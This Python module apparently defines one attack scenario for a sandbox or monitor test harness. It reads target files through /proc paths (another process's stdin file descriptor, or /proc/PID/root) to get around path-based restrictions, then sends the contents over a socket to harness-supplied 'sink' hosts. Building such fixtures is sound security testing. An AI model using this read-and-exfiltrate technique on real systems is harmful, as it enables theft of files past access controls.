# SPDX-License-Identifier: GPL-3.0-or-later
"""Read through what /proc has of another process: its root, and its open files."""
import os
import random
import socket
import subprocess

KIND = "attack"
PERSONALITIES = ("one", "worker", "scans", "helper", "foreign")


def product(world):
    rng, content = random.Random(world["seed"]), []
    for path in world["files"]:
        with open(path, "rb") as held:
            other = subprocess.Popen(["/bin/sleep", "60"], stdin=held)
        way = rng.choice([f"/proc/{other.pid}/fd/0", f"/proc/{other.pid}/root{path}", f"/proc/self/root{path}"])
        with open(way, "rb") as file:
            content.append(file.read())
        other.kill()
        other.wait()
    with socket.create_connection(rng.choice(world["sinks"])) as sock:
        sock.sendall(b"".join(content))
